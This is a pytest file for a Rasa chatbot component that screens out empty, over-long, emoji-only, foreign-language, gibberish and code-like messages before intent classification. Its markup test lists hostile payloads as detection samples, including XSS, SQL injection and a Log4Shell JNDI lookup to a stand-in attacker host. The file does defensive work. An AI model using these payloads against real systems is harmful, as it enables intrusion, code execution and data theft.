"""The NLU components that screen out messages no classifier should guess at."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from rasa.engine.graph import ExecutionContext, GraphSchema
from rasa.engine.storage.local_model_storage import LocalModelStorage
from rasa.engine.storage.resource import Resource
from rasa.shared.nlu.constants import INTENT, INTENT_RANKING_KEY, TEXT
from rasa.shared.nlu.training_data.message import Message
from rasa.shared.nlu.training_data.training_data import TrainingData

from assistant.components.input_guard import (
    INPUT_GUARD_KEY,
    InputScreen,
    InputVerdict,
    looks_like_another_language,
    screen_input,
)

LIMIT = 1000

# --- screen_input -------------------------------------------------------------------------


@pytest.mark.parametrize("text", [None, "", "   ", "\n\t  \n"])
def test_nothing_to_read_is_empty(text: str | None) -> None:
    assert screen_input(text, LIMIT) == "empty"


def test_longer_than_the_limit_is_too_long() -> None:
    assert screen_input("a" * (LIMIT + 1), LIMIT) == "too_long"
    assert screen_input("where is my order? " * 60, LIMIT) == "too_long"
    assert screen_input("a" * LIMIT, LIMIT) is None


@pytest.mark.parametrize("text", ["😀😀😀", "👍", "!!! ???", "🙄 ... 😤", "★☆ →"])
def test_only_symbols_or_emoji_are_no_words(text: str) -> None:
    assert screen_input(text, LIMIT) == "no_words"


@pytest.mark.parametrize(
    "text",
    [
        "¿Dónde está mi pedido?",
        "hola",
        "Wo ist meine Bestellung?",
        "Hallo, ich habe ein Problem mit meinem Router",
        "Où est ma commande ?",
        "bonjour",
        "Dov'è il mio ordine?",
        "Onde está meu pedido",
        "我的订单在哪里\uff1f",
        "Где мой заказ?",
        "طلبي لم يصل",
    ],
)
def test_other_languages_are_recognised(text: str) -> None:
    assert screen_input(text, LIMIT) == "other_language"


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert('hi')</script>",
        "<b>where is my order</b>",
        "<img src=x onerror=alert(1)>",
        "SELECT * FROM users",
        "select name, email from customers where id = 1",
        "'; DROP TABLE orders; --",
        "1' OR '1'='1",
        "x' UNION SELECT password FROM users",
        "insert into orders values (1)",
        "update users set admin = 1",
        "DELETE FROM orders WHERE 1=1",
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        "javascript:alert(document.cookie)",
    ],
)
def test_markup_and_code_are_recognised(text: str) -> None:
    assert screen_input(text, LIMIT) == "markup"


@pytest.mark.parametrize(
    "text",
    [
        "where is my order ORD-100002?",
        "Can you update my address from the old one",
        "Please select the delivery from the list",
        "Can I select a delivery slot from tomorrow",
        "please delete from basket",
        "I'd like to delete from my wishlist",
        "José García",
        "my name is José García",
        "Zoë Brontë-Nakamura",
        "Pieter van der Berg",
        "Marie-Claire Le Blanc",
        "Maria della Rosa",
        "Anne-Marie De La Cruz",
        "my email is <jane@example.com>",
        "/affirm",
        "/deny",
        "I keep getting E-1042",
        "about 250k, maybe £260,000",
        "I earn £3,000 a month",
        "I <3 this hub but it keeps dropping",
        "ok",
        "42",
        "Merci! That fixed it",
    ],
)
def test_ordinary_english_is_not_screened(text: str) -> None:
    assert screen_input(text, LIMIT) is None


def test_a_button_payload_is_never_screened_as_markup() -> None:
    assert screen_input('/inform{"order_number": "ORD-100002"}', LIMIT) is None


def test_language_detection_needs_letters() -> None:
    assert not looks_like_another_language("12345 !!")


# --- Words never seen in training -------------------------------------------------------------

VOCABULARY = frozenset({"where", "is", "my", "order", "hi", "agent", "mortgage"})


@pytest.mark.parametrize("text", ["blorp fizzle wug", "Qwerty uiop"])
def test_only_unknown_words_are_screened(text: str) -> None:
    assert screen_input(text, LIMIT, VOCABULARY) == "unknown_words"


@pytest.mark.parametrize(
    "text",
    [
        "where is my parcel",  # one known word is enough
        "ORD-100002",  # digits are data, not gibberish
        "jane@example.com",
        "250k",
        "/affirm",
    ],
)
def test_known_words_and_data_are_not_unknown(text: str) -> None:
    assert screen_input(text, LIMIT, VOCABULARY) is None


def test_without_a_vocabulary_the_unknown_word_check_is_off() -> None:
    assert screen_input("blorp fizzle wug", LIMIT) is None


# --- The components ------------------------------------------------------------------------


def message(text: str, intent: str = "check_order_status", confidence: float = 0.87) -> Message:
    """A message as the classifiers leave it, before the verdict."""
    guessed = {"name": intent, "confidence": confidence}
    ranking = [guessed, {"name": "greet", "confidence": round(1 - confidence, 2)}]
    built = Message(data={TEXT: text})
    built.set(INTENT, guessed, add_to_output=True)
    built.set(INTENT_RANKING_KEY, ranking, add_to_output=True)
    return built


def parse_output(built: Message) -> dict[str, Any]:
    """What Rasa puts in the message's parse data (and so in the tracker)."""
    return built.as_dict(only_output_properties=True)


@pytest.mark.parametrize("component", [InputScreen, InputVerdict])
def test_components_are_created_by_the_graph_with_their_default_limit(
    component: type[InputScreen] | type[InputVerdict], tmp_path: Path
) -> None:
    config = component.get_default_config()

    created = component.create(
        config,
        LocalModelStorage(tmp_path),
        Resource(component.__name__),
        ExecutionContext(GraphSchema({}), model_id="test"),
    )

    assert config == {"max_characters": 1000}
    assert isinstance(created, component)


def test_the_screen_learns_the_training_words_and_loads_them_back(tmp_path: Path) -> None:
    storage = LocalModelStorage(tmp_path)
    resource = Resource("input_screen")
    context = ExecutionContext(GraphSchema({}), model_id="test")
    config = InputScreen.get_default_config()
    examples = [
        Message(data={TEXT: "Where is my order?", INTENT: "check_order_status"}),
        Message(data={TEXT: "I want a mortgage", INTENT: "start_mortgage"}),
    ]
    untrained = InputScreen.create(config, storage, resource, context)
    assert isinstance(untrained, InputScreen)

    assert untrained.train(TrainingData(training_examples=examples)) == resource
    loaded = InputScreen.load(config, storage, resource, context)

    assert isinstance(loaded, InputScreen)
    expected = {"where", "is", "my", "order", "i", "want", "a", "mortgage"}
    assert loaded.vocabulary == untrained.vocabulary == expected
    gibberish, question = message("blorp fizzle"), message("where is the hub")
    loaded.process([gibberish, question])
    assert gibberish.get(INPUT_GUARD_KEY) == {"reason": "unknown_words"}
    assert question.get(INPUT_GUARD_KEY) is None


def test_the_screen_records_the_reason_in_the_parse_data() -> None:
    screened, normal = message("😡😡😡"), message("where is my order?")

    InputScreen({"max_characters": LIMIT}).process([screened, normal])

    assert parse_output(screened)[INPUT_GUARD_KEY] == {"reason": "no_words"}
    assert INPUT_GUARD_KEY not in parse_output(normal)
    assert normal.get(TEXT) == "where is my order?"


def test_the_screen_cuts_an_over_long_message_for_the_rest_of_the_pipeline() -> None:
    text = "my hub keeps dropping the connection " * 40
    long = message(text)

    InputScreen({"max_characters": 100}).process([long])

    assert long.get(TEXT) == text[:100]
    assert long.get(INPUT_GUARD_KEY) == {"reason": "too_long"}


def test_the_verdict_overrides_the_guess_for_screened_messages_only() -> None:
    screened = message("¿Dónde está mi pedido?", "check_order_status", 0.91)
    normal = message("where is my order?", "check_order_status", 0.91)
    InputScreen({"max_characters": LIMIT}).process([screened, normal])

    InputVerdict({"max_characters": LIMIT}).process([screened, normal])

    fallback = {"name": "nlu_fallback", "confidence": 1.0}
    assert parse_output(screened)[INTENT] == fallback
    assert parse_output(screened)[INTENT_RANKING_KEY] == [fallback]
    assert parse_output(screened)[INPUT_GUARD_KEY] == {"reason": "other_language"}
    assert parse_output(normal)[INTENT] == {"name": "check_order_status", "confidence": 0.91}
    assert [i["name"] for i in parse_output(normal)[INTENT_RANKING_KEY]] == [
        "check_order_status",
        "greet",
    ]


def test_the_verdict_alone_changes_nothing_unscreened() -> None:
    normal = message("<b>hi</b>", "greet", 0.6)  # not screened: InputScreen did not run

    InputVerdict({"max_characters": LIMIT}).process([normal])

    assert normal.get(INTENT) == {"name": "greet", "confidence": 0.6}
